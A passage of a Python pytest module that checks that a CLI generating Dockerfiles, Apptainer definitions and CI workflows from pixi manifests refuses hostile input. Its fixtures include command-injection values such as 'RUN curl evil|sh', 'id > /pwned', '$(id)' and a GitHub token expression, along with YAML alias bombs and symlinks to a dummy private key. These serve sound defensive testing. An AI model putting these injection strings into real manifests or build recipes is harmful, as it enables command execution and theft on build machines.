"""Hostile and odd input (issue 8): manifests, locks, the file system, options, signals, concurrency
and checks, each as a user (or someone handing a learner a malicious repository) would meet it.

Every case asserts the exit code, that stderr holds one line (or stdout one JSON object) and no
traceback, and that the temporary tree is unchanged outside the places the kit may write (for a
refusal: unchanged everywhere). Most cases call `kit.cli.main` in this process (fast); anything
that could hang or needs a signal, another user or a second process runs `python -m kit.cli` with
a timeout.
"""

from __future__ import annotations

import fcntl
import json
import os
import signal
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import EXAMPLE, REPO, OtherUser, need

from kit import cli

DATA = Path(__file__).resolve().parent / "data" / "hostile"
LOCK = (DATA / "pixi.lock").read_text()
GOOD = (EXAMPLE / "pixi.toml").read_text()
PROBE = (REPO / "kit" / "probe" / "torch_detect_GPU.py").read_text()
KIT = [sys.executable, "-m", "kit.cli"]
ENV = {**os.environ, "PYTHONPATH": str(REPO)}
SECRET = "-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-real-key\n-----END OPENSSH PRIVATE KEY-----\n"


# -- running the kit -------------------------------------------------------------------------------


@dataclass
class Run:
    code: int
    out: str
    err: str


def kit(capsys: pytest.CaptureFixture[str], *args: object) -> Run:
    """`kit ARGS` in this process."""
    try:
        code = cli.main([str(a) for a in args])
    except SystemExit as exc:  # argparse
        code = exc.code if isinstance(exc.code, int) else 2
    captured = capsys.readouterr()
    return Run(code, captured.out, captured.err)


def kit_process(
    *args: object, timeout: float = 60, user: OtherUser | None = None, cwd: Path | None = None
) -> Run:
    """`python -m kit.cli ARGS` as a process of its own (optionally as another user, with the
    copy of the kit that user can reach: see conftest's `nobody`)."""
    argv, env = [*KIT, *(str(a) for a in args)], ENV
    if user is not None:
        argv, env = user.argv(*(str(a) for a in args)), user.env()
    done = subprocess.run(
        argv, capture_output=True, text=True, errors="replace", timeout=timeout, env=env, cwd=cwd, check=False
    )
    return Run(done.returncode, done.stdout, done.stderr)


def one_line(run: Run, code: int = 2, expect: str | None = None) -> None:
    """The exit code, one line on stderr (`kit: ...`), no traceback."""
    assert run.code == code, run
    assert "Traceback" not in run.out + run.err, run
    lines = run.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("kit: "), run
    if expect is not None:
        assert expect in lines[0], run


def one_json(run: Run, code: int = 2) -> dict[str, Any]:
    assert run.code == code, run
    assert "Traceback" not in run.out + run.err, run
    data = json.loads(run.out)  # the one --json envelope: {ok, command, result, errors}
    assert isinstance(data, dict) and data["ok"] is False and data["errors"], run
    assert all(e["message"] for e in data["errors"])
    return data


# -- the tree ----------------------------------------------------------------------------------------

MAX_SNAPSHOT = 4 * 1024 * 1024


def snapshot(root: Path) -> dict[str, tuple[Any, ...]]:
    """Every entry under `root`: links as links, files by bytes and mode, never reading a FIFO."""
    out: dict[str, tuple[Any, ...]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            info = path.lstat()
            rel = path.relative_to(root).as_posix()
            if stat.S_ISLNK(info.st_mode):
                out[rel] = ("link", os.readlink(path))
            elif stat.S_ISDIR(info.st_mode):
                out[rel] = ("dir", stat.S_IMODE(info.st_mode))
            elif stat.S_ISREG(info.st_mode):
                body = path.read_bytes() if info.st_size <= MAX_SNAPSHOT else info.st_size
                out[rel] = ("file", stat.S_IMODE(info.st_mode), body)
            else:
                out[rel] = ("other", stat.S_IFMT(info.st_mode))
    return out


def changed(before: dict[str, tuple[Any, ...]], after: dict[str, tuple[Any, ...]]) -> set[str]:
    return {k for k in before.keys() | after.keys() if before.get(k) != after.get(k)}


def temps(root: Path) -> list[str]:
    return sorted(k for k in snapshot(root) if Path(k).name.startswith(".kit-tmp-"))


def workspace(path: Path, manifest: str | None = GOOD, lock: str | None = LOCK, probe: bool = True) -> Path:
    path.mkdir(parents=True, exist_ok=True)
    if manifest is not None:
        (path / "pixi.toml").write_text(manifest)
    if lock is not None:
        (path / "pixi.lock").write_text(lock)
    if probe:
        (path / "app").mkdir(exist_ok=True)
        (path / "app" / "torch_detect_GPU.py").write_text(PROBE)
    return path


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """tmp/repo (a git repository whose root is the workspace) and tmp/outside (a private key)."""
    repo = workspace(tmp_path / "repo")
    (repo / ".git").mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_ed25519").write_text(SECRET)
    return tmp_path


def toml_str(value: str) -> str:
    return json.dumps(value)  # a JSON string is a TOML basic string


def toml_str_list(*values: str) -> str:
    return "[" + ", ".join(toml_str(v) for v in values) + "]"


TASKS = '[tasks]\nprobe = "python app/torch_detect_GPU.py"\n'


def manifest(
    name: str | None = None,
    cuda: str | None = None,
    channels: str | None = None,
    platforms: str | None = None,
    extra: str = "",
    environments: str | None = None,
) -> str:
    """The example manifest with raw TOML values swapped in."""
    text = GOOD
    if name is not None:
        text = text.replace('name = "cuda-exercise"', f"name = {name}")
    if cuda is not None:
        text = text.replace('cuda = "12"', f"cuda = {cuda}")
    if channels is not None:
        text = text.replace('channels = ["conda-forge"]', f"channels = {channels}")
    if platforms is not None:
        text = text.replace('platforms = ["linux-64", "osx-arm64"]', f"platforms = {platforms}")
    if environments is not None:
        text = text[: text.index("[environments]")] + "[environments]\n" + environments
    return text + extra


def refused_everywhere(
    capsys: pytest.CaptureFixture[str], root: Path, *args: object, expect: str | None = None, code: int = 2
) -> Run:
    """`kit ARGS` exits `code` with one line and changes nothing under `root`."""
    before = snapshot(root)
    run = kit(capsys, *args)
    one_line(run, code, expect)
    assert changed(before, snapshot(root)) == set()
    return run


# == manifest =========================================================================================

INJECTED_NAME = 'x"\nRUN ["/bin/sh","-c","id > /pwned"]\nLABEL y="'
INJECTED_CUDA = '12"\nRUN curl evil|sh\n#'
MANIFEST_CASES: dict[str, tuple[str, list[str]]] = {
    # values that reach a Dockerfile, a def file, YAML or a shell
    "name-run-line-optimized": (manifest(name=toml_str(INJECTED_NAME)), ["--style", "optimized"]),
    "name-run-line-lesson": (manifest(name=toml_str(INJECTED_NAME)), []),
    "name-post-section": (manifest(name=toml_str("x\n%post\n    id > /pwned\n")), []),
    "name-command-substitution": (manifest(name=toml_str("$(id)")), []),
    "name-backticks": (manifest(name=toml_str("`id`")), []),
    "name-github-expression": (manifest(name=toml_str("${{ github.token }}")), []),
    "name-yaml-quote": (manifest(name=toml_str("a' : evil\nkey: 'x")), []),
    "name-terminal-escape": (manifest(name=toml_str("\u001b]0;owned\u0007\u001b[2Jx")), []),
    "name-carriage-return": (manifest(name=toml_str("ok\rRUN id")), []),
    "name-nul": (manifest(name=toml_str("a\u0000b")), []),
    "name-10k-chars": (manifest(name=toml_str("a" * 10_000)), []),
    "name-integer": (manifest(name="5"), []),
    "name-table": (manifest(name="{ a = 1 }"), []),
    "cuda-run-line": (manifest(cuda=toml_str(INJECTED_CUDA)), ["--env", "gpu"]),
    "cuda-run-line-optimized": (
        manifest(cuda=toml_str(INJECTED_CUDA)),
        ["--env", "gpu", "--style", "optimized"],
    ),
    "cuda-yaml-quote": (manifest(cuda=toml_str("12' , evil: 'x")), ["--env", "gpu"]),
    "cuda-abc": (manifest(cuda=toml_str("abc")), ["--env", "gpu"]),
    "cuda-empty": (manifest(cuda=toml_str("")), ["--env", "gpu"]),
    "cuda-space": (manifest(cuda=toml_str("12 .4")), ["--env", "gpu"]),
    "cuda-dollar": (manifest(cuda=toml_str("$(id)")), ["--env", "gpu"]),
    "cuda-huge-number": (manifest(cuda=toml_str("99999999999999999999")), ["--env", "gpu"]),
    "cuda-version-table-injection": (manifest(cuda='{ version = "12\\nRUN id" }'), ["--env", "gpu"]),
    "cuda-list": (manifest(cuda='["12"]'), ["--env", "gpu"]),
    "cuda-in-matrix-only": (manifest(cuda=toml_str("12'\nevil: 1")), ["--env", "cpu", "--matrix", "gpu"]),
    "channel-newline": (manifest(channels=toml_str_list("conda-forge\nRUN id")), []),
    "channel-quote": (manifest(channels=toml_str_list('conda"-forge')), []),
    "channel-table-integer": (manifest(channels="[{ channel = 5, priority = 1 }]"), []),
    "channels-string": (manifest(channels=toml_str("conda-forge")), []),
    "channels-table": (manifest(channels="{ a = 1 }"), []),
    "platforms-integers": (manifest(platforms="[1, 2]"), []),
    "platforms-injection": (manifest(platforms=toml_str_list("linux-64\nRUN id")), []),
    "platforms-string": (manifest(platforms=toml_str("linux-64")), []),
    "tasks-integer": ("tasks = 5\n" + GOOD.replace(TASKS, ""), []),
    "tasks-list": ('tasks = ["a"]\n' + GOOD.replace(TASKS, ""), []),
    "no-default-feature-string": (
        manifest(environments='cpu = ["cpu"]\ngpu = { features = ["gpu"], no-default-feature = "false" }\n'),
        [],
    ),
    "features-string": (manifest(environments='cpu = ["cpu"]\ngpu = { features = "gpu" }\n'), []),
    "feature-names-integers": (manifest(environments='cpu = ["cpu"]\ngpu = [1]\n'), []),
    "environments-integer": ("environments = 5\n" + GOOD[: GOOD.index("[environments]")], []),
    "environment-integer": (manifest(environments="cpu = 5\n"), []),
    "environment-name-uppercase": (manifest(environments='GPU = ["gpu"]\n'), []),
    "environment-name-injection": (manifest(environments='"gpu;id" = ["gpu"]\n'), []),
    "feature-integer": (manifest(extra="\n[feature]\nextra = 5\n"), []),
    "features-table-integer": ("feature = 5\n" + GOOD.split("[feature.cpu")[0], []),
    "system-requirements-string": (
        GOOD.replace(
            '[feature.gpu.system-requirements]\ncuda = "12"', '[feature.gpu]\nsystem-requirements = "cuda"'
        ),
        ["--env", "gpu"],
    ),
    "workspace-integer": ("workspace = 5\n", []),
}


@pytest.mark.parametrize("case", sorted(MANIFEST_CASES))
def test_manifest_values_are_refused_where_they_enter(
    capsys: pytest.CaptureFixture[str], tree: Path, case: str
) -> None:
    """Nothing from a manifest reaches a recipe unchecked: exit 2, one line naming the manifest."""
    text, flags = MANIFEST_CASES[case]
    repo = tree / "repo"
    (repo / "pixi.toml").write_text(text)
    run = refused_everywhere(capsys, tree, "generate", repo, *flags, expect="pixi.toml")
    assert "fix:" in run.err
    assert "\x1b" not in run.err and "\r" not in run.err and "\x00" not in run.err


def deep(open_: str, close: str, depth: int, inner: str = "1") -> str:
    return open_ * depth + inner + close * depth


ODD_MANIFESTS: dict[str, bytes] = {
    "arrays-5000-deep": f'[workspace]\nname = "x"\nx = {deep("[", "]", 5000)}\n'.encode(),
    "inline-tables-3000-deep": f'[workspace]\nname = "x"\nx = {deep("{a=", "}", 3000)}\n'.encode(),
    "mixed-nesting-4000-deep": f"x = {deep('[{a=', '}]', 2000)}\n".encode(),
    "latin-1": GOOD.replace("The workspace", "Die Arbeitsfl\xe4che").encode("latin-1"),
    "utf-16": GOOD.encode("utf-16"),
    "byte-order-mark": b"\xef\xbb\xbf" + GOOD.encode(),
    "nul-byte": GOOD.encode().replace(b"# The", b"# \x00The"),
    "binary-garbage": bytes(range(256)) * 4,
    "unterminated-string": b'[workspace]\nname = "x\n',
    "duplicate-key": GOOD.encode() + b'\n[workspace]\nname = "y"\n',
    "empty": b"",
    "only-comments": b"# nothing here\n",
}


@pytest.mark.parametrize("case", sorted(ODD_MANIFESTS))
def test_odd_manifest_bytes(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").write_bytes(ODD_MANIFESTS[case])
    refused_everywhere(capsys, tree, "generate", repo, expect="pixi.toml")


def test_deep_table_headers_are_read_without_recursion(
    capsys: pytest.CaptureFixture[str], tree: Path
) -> None:
    """`[a.a.a...]` 3000 levels deep is flat for the parser: read, and unknown tables ignored."""
    repo = tree / "repo"
    (repo / "pixi.toml").write_text(GOOD + "\n[" + ".".join(["a"] * 3000) + "]\nb = 1\n")
    run = kit(capsys, "generate", repo, "--diff")
    assert run.code == 0 and "Traceback" not in run.err


def test_manifest_too_big(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    repo = tree / "repo"
    with (repo / "pixi.toml").open("a") as handle:
        handle.write("\n# " + "x" * (5 * 1024 * 1024) + "\n")
    refused_everywhere(capsys, tree, "generate", repo, expect="MiB")


@pytest.mark.parametrize("kind", ["folder", "dangling-link", "link-loop", "link-to-folder"])
def test_manifest_that_is_not_a_file(capsys: pytest.CaptureFixture[str], tree: Path, kind: str) -> None:
    repo = tree / "repo"
    manifest_path = repo / "pixi.toml"
    manifest_path.unlink()
    if kind == "folder":
        manifest_path.mkdir()
    elif kind == "dangling-link":
        manifest_path.symlink_to(tree / "nowhere.toml")
    elif kind == "link-loop":
        manifest_path.symlink_to("pixi.toml")
    else:
        manifest_path.symlink_to(tree / "outside")
    refused_everywhere(capsys, tree, "generate", repo, expect="pixi.toml")


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "dev-urandom"])
def test_manifest_fifo_or_device_does_not_hang(tree: Path, kind: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").unlink()
    if kind == "fifo":
        os.mkfifo(repo / "pixi.toml")
    else:
        (repo / "pixi.toml").symlink_to("/dev/" + kind.split("-")[1])
    before = snapshot(tree)
    run = kit_process("generate", repo, timeout=30)
    one_line(run, 2, "pixi.toml")
    assert changed(before, snapshot(tree)) == set()


@pytest.mark.parametrize("case", ["tool-integer", "tool-pixi-integer", "tool-pixi-missing"])
def test_pyproject_shapes(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").unlink()
    body = {
        "tool-integer": "tool = 5\n",
        "tool-pixi-integer": "[tool]\npixi = 5\n",
        "tool-pixi-missing": "[project]\nname = 'x'\n",
    }[case]
    (repo / "pyproject.toml").write_text(body)
    refused_everywhere(capsys, tree, "generate", repo, expect="pyproject.toml")


# == lock ===============================================================================================

LOCK_CASES: dict[str, bytes] = {
    "empty": b"",
    "version-only": b"version: 6\n",
    "no-version": b"environments: {}\npackages: []\n",
    "version-huge": b"version: 99999999999999999999\nenvironments: {}\npackages: []\n",
    "version-negative": b"version: -1\nenvironments: {}\npackages: []\n",
    "latin-1": LOCK.replace("Public-Domain", "\xe4").encode("latin-1"),
    "binary-garbage": bytes(range(256)) * 16,
    "nested-5000-deep": b"version: 6\nenvironments: " + b"[" * 5000 + b"]" * 5000 + b"\npackages: []\n",
    "yaml-alias-bomb": b"version: 6\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
    b"c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
    b"environments: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\npackages: []\n",
    "environments-list": b"version: 6\nenvironments: [1, 2]\npackages: []\n",
    "package-url-injection": LOCK.replace("tzdata-2025b", "tzdata-2025b\nRUN id").encode(),
}


@pytest.mark.parametrize("case", sorted(LOCK_CASES))
def test_odd_lock_bytes(tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.lock").write_bytes(LOCK_CASES[case])
    before = snapshot(tree)
    run = kit_process("generate", repo, timeout=60)
    one_line(run, 2, "pixi.lock")
    assert changed(before, snapshot(tree)) == set()


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder", "dangling-link", "sparse-300-MiB"])
def test_lock_that_is_not_a_small_file_does_not_hang(tree: Path, kind: str) -> None:
    repo = tree / "repo"
    lock = repo / "pixi.lock"
    lock.unlink()
    if kind == "fifo":
        os.mkfifo(lock)
    elif kind == "dev-zero":
        lock.symlink_to("/dev/zero")
    elif kind == "folder":
        lock.mkdir()
    elif kind == "dangling-link":
        lock.symlink_to(tree / "gone.lock")
    else:
        with lock.open("wb") as handle:
            handle.write(b"version: 6\n")
            handle.truncate(300 * 1024 * 1024)
    before = snapshot(tree)
    run = kit_process("inspect", repo, timeout=30)
    one_line(run, 2, "pixi.lock")
    assert changed(before, snapshot(tree)) == set()


# == file system: confinement ===========================================================================


def allowed(rel: str, prefix: str = "") -> bool:
    """Where `kit generate` may write, relative to the tmp tree: the workspace, repo/.github, state."""
    return rel.startswith(f"repo/{prefix}") or rel.startswith("repo/.github") or rel == "repo/.kit-state.json"


def test_generate_writes_only_in_allowed_places(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    before = snapshot(tree)
    run = kit(capsys, "generate", tree / "repo")
    assert run.code == 0, run
    touched = changed(before, snapshot(tree))
    assert touched and all(allowed(p) for p in touched), touched
    assert temps(tree) == []


@pytest.mark.parametrize(
    "subdir", ["x/y/z", "/etc", "..", "../repo", "repo", ".", "./", "x", "a\nb", "//", "x/../..", "\\etc"]
)
def test_subdir_must_match_where_the_workspace_is(
    capsys: pytest.CaptureFixture[str], tree: Path, subdir: str
) -> None:
    """The workspace is the repository root: any --subdir other than '' is refused."""
    if subdir in (".", "./", "//"):
        run = kit(capsys, "generate", tree / "repo", "--subdir", subdir, "--diff")
        assert run.code in (0, 2) and "Traceback" not in run.err  # '.' is the root itself
        return
    refused_everywhere(capsys, tree, "generate", tree / "repo", "--subdir", subdir, expect="subdir")


def test_subdir_of_a_nested_workspace(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    ws = workspace(repo / "lab" / "ws")
    refused_everywhere(capsys, tmp_path, "generate", ws, "--subdir", "ws", expect="subdir")
    refused_everywhere(capsys, tmp_path, "generate", ws, "--subdir", "other/ws", expect="subdir")
    refused_everywhere(capsys, tmp_path, "check", ws, "--subdir", "x/y/z", expect="subdir")
    before = snapshot(tmp_path)
    assert kit(capsys, "generate", ws, "--subdir", "lab/ws").code == 0
    touched = changed(before, snapshot(tmp_path))
    assert all(
        p.startswith(("repo/lab/ws/", "repo/.github/")) or p in ("repo/.kit-state.json", "repo/.github")
        for p in touched
    ), touched


@pytest.mark.parametrize(
    "pyproject",
    [
        b"x = " + b"[" * 100_000 + b"]" * 100_000 + b"\n",  # deeper than the TOML parser recurses
        b"\xff\xfe not utf-8\n",
        b"[tool.pixi\n",
    ],
    ids=["nested-100000-deep", "not-utf-8", "not-toml"],
)
def test_a_hostile_pyproject_elsewhere_in_the_repository(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, pyproject: bytes
) -> None:
    """Looking for a repository's other workspaces reads every pyproject.toml below the root: a
    bad one there is not a workspace, and neither generate nor check on the root trips on it."""
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    workspace(repo / "ws")
    (repo / "vendored").mkdir()
    (repo / "vendored" / "pyproject.toml").write_bytes(pyproject)
    generated = kit(capsys, "generate", repo / "ws")
    assert generated.code == 0 and "Traceback" not in generated.err, generated
    checked = kit(capsys, "check", repo)
    assert "Traceback" not in checked.err and "vendored" not in checked.out, checked


SYMLINKED = [
    "app",
    ".github",
    ".github/workflows",
    ".gitignore",
    ".gitattributes",
    "Dockerfile",
    ".dockerignore",
    "apptainer.def",
    ".github/workflows/docker.yaml",
]


@pytest.mark.parametrize("name", SYMLINKED)
def test_never_writes_through_a_symlink(capsys: pytest.CaptureFixture[str], tree: Path, name: str) -> None:
    """A link in the workspace to a private key or an outside folder: refused, the target untouched."""
    repo = tree / "repo"
    target = repo / name
    if target.exists():
        (tree / "outside" / "moved").mkdir(exist_ok=True)
        os.rename(target, tree / "outside" / "moved" / target.name)
    target.parent.mkdir(parents=True, exist_ok=True)
    is_folder = name in ("app", ".github", ".github/workflows")
    target.symlink_to(tree / "outside" if is_folder else tree / "outside" / "id_ed25519")
    run = refused_everywhere(capsys, tree, "generate", repo, expect="link")
    assert "PRIVATE KEY" not in run.out + run.err


@pytest.mark.parametrize("name", [".gitignore", "Dockerfile"])
def test_diff_never_shows_a_linked_file(capsys: pytest.CaptureFixture[str], tree: Path, name: str) -> None:
    (tree / "repo" / name).symlink_to(tree / "outside" / "id_ed25519")
    run = refused_everywhere(capsys, tree, "generate", tree / "repo", "--diff", expect="link")
    assert "PRIVATE KEY" not in run.out + run.err


@pytest.mark.parametrize("name", ["Dockerfile", "apptainer.def", ".github/workflows/docker.yaml"])
def test_dangling_link_in_place_of_a_recipe(
    capsys: pytest.CaptureFixture[str], tree: Path, name: str
) -> None:
    target = tree / "repo" / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.symlink_to(tree / "outside" / "created-by-the-kit")
    refused_everywhere(capsys, tree, "generate", tree / "repo", expect="link")
    assert not (tree / "outside" / "created-by-the-kit").exists()


@pytest.mark.parametrize(
    "name,kind",
    [
        (".github", "file"),
        (".github/workflows", "file"),
        ("app", "file"),
        ("Dockerfile", "folder"),
        ("apptainer.def", "folder"),
        (".gitignore", "folder"),
        (".gitattributes", "folder"),
        (".github/workflows/docker.yaml", "folder"),
    ],
)
def test_wrong_kind_of_entry(capsys: pytest.CaptureFixture[str], tree: Path, name: str, kind: str) -> None:
    target = tree / "repo" / name
    if target.is_dir():
        import shutil

        shutil.rmtree(target)
    target.parent.mkdir(parents=True, exist_ok=True)
    if kind == "file":
        target.write_text("not a folder\n")
    else:
        (target / "inside").mkdir(parents=True)
    refused_everywhere(capsys, tree, "generate", tree / "repo")


@pytest.mark.parametrize(
    "name,kind",
    [
        ("Dockerfile", "fifo"),
        (".gitignore", "fifo"),
        ("Dockerfile", "dev-zero"),
        (".kit-state.json", "fifo"),
        (".kit-state.json", "dev-zero"),
    ],
)
def test_fifo_or_device_in_place_of_a_written_file(tree: Path, name: str, kind: str) -> None:
    target = tree / "repo" / name
    if kind == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to("/dev/zero")
    before = snapshot(tree)
    run = kit_process("generate", tree / "repo", timeout=30)
    one_line(run, 2, name)
    assert changed(before, snapshot(tree)) == set()


@pytest.mark.parametrize("name", ["Dockerfile", ".gitignore", ".github/workflows/docker.yaml"])
def test_huge_or_binary_existing_file(capsys: pytest.CaptureFixture[str], tree: Path, name: str) -> None:
    target = tree / "repo" / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(b"\xff\xfe binary \x00\n")
    refused_everywhere(capsys, tree, "generate", tree / "repo", expect=name.rsplit("/", 1)[-1])
    with target.open("wb") as handle:
        handle.truncate(40 * 1024 * 1024)
    refused_everywhere(capsys, tree, "generate", tree / "repo", expect="MiB")


# == file system: --out ===================================================================================


def test_out_is_a_file(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    (tree / "outfile").write_text("x\n")
    refused_everywhere(capsys, tree, "generate", tree / "repo", "--out", tree / "outfile", expect="out")


def test_out_below_a_file(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    (tree / "outfile").write_text("x\n")
    refused_everywhere(capsys, tree, "generate", tree / "repo", "--out", tree / "outfile" / "deeper")


def test_out_in_a_read_only_place(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    refused_everywhere(capsys, tree, "generate", tree / "repo", "--out", "/proc/sys/kit-out")


def test_out_writes_only_below_out(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    before = snapshot(tree)
    assert kit(capsys, "generate", tree / "repo", "--out", tree / "out").code == 0
    touched = changed(before, snapshot(tree))
    assert touched and all(p == "out" or p.startswith("out/") for p in touched), touched


def test_out_with_a_linked_github_folder(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    (tree / "out").mkdir()
    (tree / "out" / ".github").symlink_to(tree / "outside")
    refused_everywhere(capsys, tree, "generate", tree / "repo", "--out", tree / "out", expect="link")


# == immutable and read-only folders (root ignores permission bits: chattr +i) ==========================


def chattr_works(path: Path) -> bool:
    probe = path / "chattr-probe"
    probe.mkdir()
    try:
        ok = subprocess.run(["chattr", "+i", str(probe)], capture_output=True, check=False).returncode == 0
    except FileNotFoundError:
        return False
    if ok:
        subprocess.run(["chattr", "-i", str(probe)], check=False)
    probe.rmdir()
    return ok


@pytest.fixture
def immutable(tree: Path) -> Iterator[Callable[[Path], None]]:
    need(chattr_works(tree), "chattr +i is not available here (needs root and ext4/xfs)")
    marked: list[Path] = []

    def mark(path: Path) -> None:
        subprocess.run(["chattr", "+i", str(path)], check=True)
        marked.append(path)

    yield mark
    for path in reversed(marked):
        subprocess.run(["chattr", "-i", str(path)], check=False)


@pytest.mark.parametrize("which", [".github/workflows", "app", "repo", "Dockerfile", "out"])
def test_immutable_place_writes_nothing(
    capsys: pytest.CaptureFixture[str], tree: Path, immutable: Callable[[Path], None], which: str
) -> None:
    """A write error part-way through leaves no file written and no temporary file."""
    repo = tree / "repo"
    args: list[object] = ["generate", repo]
    if which == "Dockerfile":  # the kit's own older Dockerfile, now immutable
        assert kit(capsys, "generate", repo, "--style", "optimized").code == 0
        immutable(repo / "Dockerfile")
    elif which == "out":
        (tree / "out").mkdir()
        immutable(tree / "out")
        args += ["--out", tree / "out"]
    elif which == "repo":
        immutable(repo)
    else:
        (repo / which).mkdir(parents=True, exist_ok=True)
        if which == "app":
            (repo / "app" / "torch_detect_GPU.py").unlink()
        immutable(repo / which)
    refused_everywhere(capsys, tree, *args)
    assert temps(tree) == []


def test_immutable_state_file_rolls_back_every_file(
    capsys: pytest.CaptureFixture[str], tree: Path, immutable: Callable[[Path], None]
) -> None:
    repo = tree / "repo"
    assert kit(capsys, "generate", repo).code == 0
    immutable(repo / ".kit-state.json")
    refused_everywhere(capsys, tree, "generate", repo, "--style", "optimized")
    assert temps(tree) == []


# == another user: unreadable and read-only folders ======================================================

NOBODY = 65534


@pytest.fixture
def shared_tmp() -> Iterator[Path]:
    """A folder the user `nobody` can reach (pytest's tmp_path is private to root)."""
    need(os.geteuid() == 0 and os.path.exists("/usr/bin/setpriv"), "needs root and setpriv")
    folder = Path(tempfile.mkdtemp(prefix="kit-hostile-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        subprocess.run(["chmod", "-R", "u+rwX", str(folder)], check=False)
        import shutil

        shutil.rmtree(folder, ignore_errors=True)


def as_nobody(folder: Path) -> None:
    subprocess.run(["chown", "-R", f"{NOBODY}:{NOBODY}", str(folder)], check=True)


@pytest.mark.parametrize(
    "case",
    [
        "unreadable-workspace",
        "unreadable-manifest",
        "unreadable-lock",
        "read-only-workspace",
        "unreadable-github",
        "read-only-github",
        "unreadable-app",
        "read-only-out",
    ],
)
def test_permissions_as_another_user(shared_tmp: Path, nobody: OtherUser, case: str) -> None:
    ws = workspace(shared_tmp / "ws")
    out = shared_tmp / "out"
    out.mkdir()
    (ws / ".github" / "workflows").mkdir(parents=True)
    as_nobody(shared_tmp)
    subprocess.run(["chown", "root:root", str(out)], check=True)  # nobody cannot write there
    mode_of = {
        "unreadable-workspace": (ws, 0o000),
        "unreadable-manifest": (ws / "pixi.toml", 0o000),
        "unreadable-lock": (ws / "pixi.lock", 0o000),
        "read-only-workspace": (ws, 0o555),
        "unreadable-github": (ws / ".github", 0o000),
        "read-only-github": (ws / ".github" / "workflows", 0o555),
        "unreadable-app": (ws / "app", 0o000),
        "read-only-out": (out, 0o555),
    }
    path, mode = mode_of[case]
    path.chmod(mode)
    before = snapshot(shared_tmp)
    args: list[object] = ["generate", ws] + (["--out", out] if case == "read-only-out" else [])
    run = kit_process(*args, user=nobody, cwd=shared_tmp)
    one_line(run, 2)
    assert changed(before, snapshot(shared_tmp)) == set()


# == the state file =========================================================================================

STATE_CASES: dict[str, bytes] = {
    "not-json": b"{ this is not json",
    "a-list": b"[1, 2, 3]\n",
    "files-integer": b'{"files": 5}\n',
    "files-missing": b'{"version": 2}\n',
    "entry-not-a-hash": b'{"files": {"Dockerfile": "abc"}}\n',
    "entry-integer": b'{"files": {"Dockerfile": 5}}\n',
    "entry-table-without-hash": b'{"files": {"Dockerfile": {"workspace": ""}}}\n',
    "non-utf-8": b'{"files": {"\xff": "x"}}\n',
    "nested-100000-deep": b"[" * 100_000 + b"]" * 100_000,
    "empty": b"",
    "nul-bytes": b"\x00" * 64,
}


@pytest.mark.parametrize("case", sorted(STATE_CASES))
def test_corrupt_state_file_has_a_way_out(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / ".kit-state.json").write_bytes(STATE_CASES[case])
    run = refused_everywhere(capsys, tree, "generate", repo, expect=".kit-state.json")
    assert "--force" in run.err and "delete" in run.err
    one_line(kit(capsys, "generate", repo, "--diff"), 2, ".kit-state.json")
    forced = kit(capsys, "generate", repo, "--force")
    assert forced.code == 0, forced
    assert json.loads((repo / ".kit-state.json").read_text())["files"]


@pytest.mark.parametrize("kind", ["folder", "link-to-key", "dangling-link"])
def test_state_file_that_is_not_a_file(capsys: pytest.CaptureFixture[str], tree: Path, kind: str) -> None:
    state = tree / "repo" / ".kit-state.json"
    if kind == "folder":
        state.mkdir()
    elif kind == "link-to-key":
        state.symlink_to(tree / "outside" / "id_ed25519")
    else:
        state.symlink_to(tree / "outside" / "gone.json")
    run = refused_everywhere(capsys, tree, "generate", tree / "repo", expect=".kit-state.json")
    assert "PRIVATE KEY" not in run.err
    refused_everywhere(capsys, tree, "generate", tree / "repo", "--force", expect=".kit-state.json")


def test_old_state_format_is_still_read(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    repo = tree / "repo"
    assert kit(capsys, "generate", repo).code == 0
    data = json.loads((repo / ".kit-state.json").read_text())
    (repo / ".kit-state.json").write_text(
        json.dumps({"files": {k: v["sha256"] for k, v in data["files"].items()}})
    )
    assert kit(capsys, "generate", repo, "--style", "optimized").code == 0


# == edits, line endings, two workspaces ======================================================================


@pytest.mark.parametrize(
    "name", ["Dockerfile", "apptainer.def", ".dockerignore", ".github/workflows/docker.yaml"]
)
def test_crlf_edit_counts_as_an_edit(capsys: pytest.CaptureFixture[str], tree: Path, name: str) -> None:
    repo = tree / "repo"
    assert kit(capsys, "generate", repo).code == 0
    target = repo / name
